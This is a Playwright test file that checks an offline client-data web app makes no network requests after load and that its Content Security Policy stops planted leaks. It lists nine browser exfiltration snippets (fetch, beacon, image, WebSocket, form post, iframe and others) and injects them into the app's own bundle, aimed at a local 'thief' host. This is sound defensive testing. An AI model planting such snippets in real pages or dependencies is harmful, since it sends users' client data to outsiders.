import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { writeDemo } from './main-job.ts';
import { doWholeJob, loaded } from './tools/whole-job.ts';
import { type StaticHost, staticHost, thief } from './tools/static-host.ts';
import { expect, test } from './tools/sealed-test.ts';

/** Enough to be read by several workers: less is read by the desk itself. */
const CLIENTS = 1200;

let hosts: StaticHost[] = [];
const start = async (host: Promise<StaticHost>): Promise<StaticHost> => {
  hosts.push(await host);
  return host;
};
test.afterEach(async () => {
  await Promise.all(hosts.map((host) => host.close()));
  hosts = [];
});

test('after load the whole job makes no request and breaks no rule', async ({
  page,
  witness: { requests, violations },
}) => {
  await page.goto('');
  await loaded(page);
  await page.evaluate(() => navigator.serviceWorker.ready);
  const before = requests.length;
  await doWholeJob(page, writeDemo(CLIENTS));
  expect(requests.slice(before)).toEqual([]);
  expect(violations).toEqual([]);
});

test('on a host without headers, in a folder, it is the same; the host hears nothing', async ({
  page,
  witness: { requests, violations },
}) => {
  const host = await start(staticHost('/bank/tools/'));
  await page.goto(host.address);
  await loaded(page);
  await page.evaluate(() => navigator.serviceWorker.ready);
  const before = [requests.length, host.requests.length];
  await doWholeJob(page, writeDemo(CLIENTS));
  expect([requests.length, host.requests.length]).toEqual(before);
  expect(violations).toEqual([]);
});

test('the network goes off after load and nothing is missed', async ({ page, context }) => {
  await page.goto('');
  await loaded(page);
  await context.setOffline(true);
  await doWholeJob(page, writeDemo(300));
});

test('a sealed page can still be installed', async ({ page }) => {
  await page.goto('');
  await loaded(page);
  await page.evaluate(() => navigator.serviceWorker.ready);
  const browser = await page.context().newCDPSession(page);
  const { installabilityErrors } = await browser.send('Page.getInstallabilityErrors');
  // A test's profile is always a private one.
  expect(installabilityErrors.map(({ errorId }) => errorId)).toEqual(['in-incognito']);
});

test('files are opened only after the page has been sealed', async ({ page }) => {
  const host = await start(staticHost());
  let release = (): void => undefined;
  const held = new Promise<void>((resolve) => (release = resolve));
  await page.route(/StatisticsView.*js/, async (route) => {
    await held;
    await route.continue();
  });
  await page.goto(host.address);
  await page.getByRole('button', { name: /Демо-данные/ }).click();
  await expect.poll(() => page.workers().length).toBe(0);
  await expect(page.getByRole('heading', { name: 'Данные загружены' })).toBeHidden();
  release();
  await expect(page.getByRole('heading', { name: 'Данные загружены' })).toBeVisible();
});

test('a machine that knows only itself', () => {
  const inside = (command: string): ReturnType<typeof spawnSync> =>
    spawnSync('unshare', ['-rn', 'sh', '-c', `ip link set lo up && ${command}`], {
      cwd: join(import.meta.dirname, '../..'),
      // Its own server, its own port.
      env: { ...process.env, VYGODA_E2E_PORT: '', VYGODA_E2E_DATA: '' },
      encoding: 'utf8',
    });
  const allowed = process.platform === 'linux' && inside('true').status === 0;
  test.skip(!allowed, 'SKIPPED: this machine allows no network namespace (unshare -rn)');
  test.setTimeout(120_000);
  const job = inside(
    'npx playwright test --config tests/e2e/playwright.config.ts --output test-results/loopback trust-network -g "network goes off"',
  );
  expect(`${String(job.stdout)}${String(job.stderr)}`).toContain('1 passed');
});

/** One leak each, as hostile code in the page would try; `TO` is where to. */
const LEAKS: Readonly<Record<string, string>> = {
  fetch: 'fetch(TO).catch(() => 0)',
  beacon: 'navigator.sendBeacon(TO, "client")',
  image: 'new Image().src = TO',
  socket: 'try { new WebSocket(TO.replace("http", "ws")) } catch {}',
  prefetch:
    'document.head.append(Object.assign(document.createElement("link"), {rel: "prefetch", href: TO}))',
  stylesheet:
    'document.head.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: TO}))',
  form: 'const f = Object.assign(document.createElement("form"), {action: TO, method: "post"}); document.body.append(f); f.submit()',
  frame: 'document.body.append(Object.assign(document.createElement("iframe"), {src: TO}))',
  import: 'import(TO).catch(() => 0)',
};
/** The program's own code, changed as a hostile dependency would change it. */
const inPage = (leak: string): string =>
  `;new MutationObserver((_, seen) => { if (document.querySelector('.summary .tiles')) { seen.disconnect(); ${leak} } })` +
  `.observe(document.body, {subtree: true, childList: true});`;
const inWorker = (leak: string): string =>
  `;addEventListener('securitypolicyviolation', (event) => console.error('Content Security Policy ' + event.blockedURI));` +
  `addEventListener('message', () => { ${leak} });`;

test.describe('planted', () => {
  test.use({ leaky: true });

  for (const [name, leak] of Object.entries(LEAKS)) {
    for (const where of ['page', 'worker'] as const) {
      if (where === 'worker' && !['fetch', 'socket', 'import'].includes(name)) continue;
      test(`a planted leak is stopped and seen: ${name} in the ${where}`, async ({
        page,
        witness: { violations },
      }) => {
        const [host, other] = [await start(staticHost()), await start(thief())];
        const targets = [`${other.address}?client=1`, `${host.address}stolen?client=1`];
        // One after the other: a form that is sent calls back the one before.
        const code = targets
          .map((to, at) => `setTimeout(() => { const TO = '${to}'; ${leak} }, ${at * 300});`)
          .join('\n');
        host.change = (path, content) => {
          if (where === 'page' && /^assets\/index-.*js$/.test(path))
            return content.toString() + inPage(code);
          if (where === 'worker' && path.includes('browser-entry'))
            return content.toString() + inWorker(code);
          return content;
        };
        await page.goto(host.address);
        await loaded(page);
        await page.getByRole('button', { name: /Демо-данные/ }).click();
        // Both ways out were tried, and both were noticed.
        const tried = [new URL(other.address).host, new URL(host.address).host];
        await expect
          .poll(() => tried.filter((to) => !violations.some((text) => text.includes(to))))
          .toEqual([]);
        expect(other.requests).toEqual([]);
        expect(host.requests.filter((request) => request.includes('stolen'))).toEqual([]);
      });
    }
  }

  test('the witness is awake: without the policy the same leak gets out', async ({
    page,
    witness: { requests },
  }) => {
    const [host, other] = [await start(staticHost()), await start(thief())];
    const leak = `fetch('${other.address}?client=1').catch(() => 0)`;
    host.change = (path, content) => {
      const text = content.toString();
      if (path === 'index.html') return text.replace(/<meta http-equiv[^>]*>/, '');
      if (!/^assets\/index-.*js$/.test(path)) return content;
      return text.replace(/Content-Security-Policy/g, 'x-none') + inPage(leak);
    };
    await page.goto(host.address);
    await loaded(page);
    await page.getByRole('button', { name: /Демо-данные/ }).click();
    await expect.poll(() => other.requests).toEqual(['GET /?client=1']);
    expect(requests).toContain(`${other.address}?client=1`);
  });
});
